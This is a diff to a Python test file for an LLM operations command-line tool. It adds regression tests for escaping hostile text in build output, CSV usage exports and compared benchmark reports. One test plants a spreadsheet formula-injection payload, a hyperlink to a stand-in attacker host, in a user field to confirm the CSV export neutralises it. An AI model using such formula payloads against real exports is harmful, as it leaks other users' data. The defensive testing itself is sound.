@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import gzip
 import io
 import json
@@ -18,14 +19,19 @@ from hypothesis import strategies as st
 from pydantic import TypeAdapter, ValidationError
 from rich.console import Console
 
+from llmops.cli.accounts.admin_client import AdminClient
 from llmops.cli.main import cli
 from llmops.cli.monitor.exposition import MetricsPage, MetricsWindow
 from llmops.cli.monitor.layout import ViewOptions, render_screen
 from llmops.cli.monitor.snapshot import PolledGateway, make_snapshot
 from llmops.cli.output import print_fields, print_json, print_table
-from llmops.control.admin.schemas import AdminRequest, KeyCreate, SafeText
+from llmops.cli.progress import PlainProgress, RichProgress
+from llmops.control.admin.schemas import AdminRequest, KeyCreate, SafeText, UsageReport
 from llmops.errors import InputError, LlmopsError
 from llmops.gateway.logging_setup import MAX_LOG_MESSAGE_CHARACTERS, SafeFormatter
+from llmops.perf.load.runner import LoadRun
+from llmops.perf.report.document import Document
+from llmops.perf.report.summary import summarise
 from llmops.store.accounts.limits import Limits
 from llmops.store.accounts.tenants import create_tenant
 from llmops.store.accounts.users import ensure_user
@@ -121,6 +127,50 @@ def test_tables_pairs_and_json_show_escapes(capsys, monkeypatch):
         assert is_safe(said)
         assert len(said) < 3000
         assert len(said.splitlines()) == 7
+
+
+def test_headings_and_lines_of_a_build_show_escapes(capsys):
+    """A build prints tokens of a checkpoint; before the fix they could forge a line, and `[/x]` ended the build."""
+    said, console = io.StringIO(), Console(file=io.StringIO(), width=200)
+    rich = RichProgress()
+    rich.console = console
+    for text in [*HOSTILE, "[/x]", "y" * 100_000]:
+        print_table((text,), [["x"]])
+        for one in (PlainProgress(said), rich):
+            one.warn(f"dropped {text}.")
+    plain = said.getvalue()
+    assert is_safe(capsys.readouterr().out)
+    assert is_safe(plain)
+    assert is_safe(console.file.getvalue())
+    assert plain.count("\n") == len(HOSTILE) + 2
+    assert len(plain) < 10_000
+    assert "dropped [/x]." in plain
+
+
+def test_a_spreadsheet_runs_no_formula_of_an_address(monkeypatch):
+    """Before the fix, a user whose address is a formula read the bills of others, in the spreadsheet of an operator."""
+    counts = dict.fromkeys(("requests", "input_tokens", "cached_tokens", "output_tokens", "reasoning_tokens"), 1)
+    totals, user = {**counts, "cost_micros": 1, "cost_usd": 0.000001}, '=hyperlink("http://evil.example/?a@b",c2)'
+    report = UsageReport(period={"from": "2026-11-01", "to": "2026-11-02"}, lines=[{**totals, "user": user}], **totals)
+    monkeypatch.setattr(AdminClient, "request", lambda *_, **__: report)
+    done = CliRunner().invoke(cli, ["usage", "--by", "user", "--csv", "--url", "http://127.0.0.1:9"])
+    (_, row) = csv.reader(io.StringIO(done.stdout))
+    assert row[0] == f"'{user}"
+
+
+def test_a_report_of_a_stranger_is_compared_or_refused(tmp_path):
+    """Before the fixes, its texts reached the terminal as they were, and other values ended with tracebacks."""
+    options, machine = {"arrival": "poisson"}, {"cpu": "x"}
+    one = Document(options=options, machine=machine, summary=summarise(LoadRun(records=[], start=0, end=1), []))
+    one.write(tmp_path / "a.json")
+    data = json.loads((tmp_path / "a.json").read_text())
+    odd = [{"created": HOSTILE[1]}, {"options": {HOSTILE[0]: [HOSTILE[3], "[/x]"]}}]
+    refused = [{"summary": None}, {"summary": {}}, {"sweep": [5]}, {"created": 5}]
+    for change in (*odd, *refused):
+        (tmp_path / "b.json").write_text(json.dumps({**data, **change}))
+        done = CliRunner().invoke(cli, ["bench", "--compare", str(tmp_path / "a.json"), str(tmp_path / "b.json")])
+        assert is_safe(done.output)
+        assert isinstance(done.exception, InputError) is (change in refused), done.output
 
 
 def test_a_log_line_of_a_stranger_is_one_line():
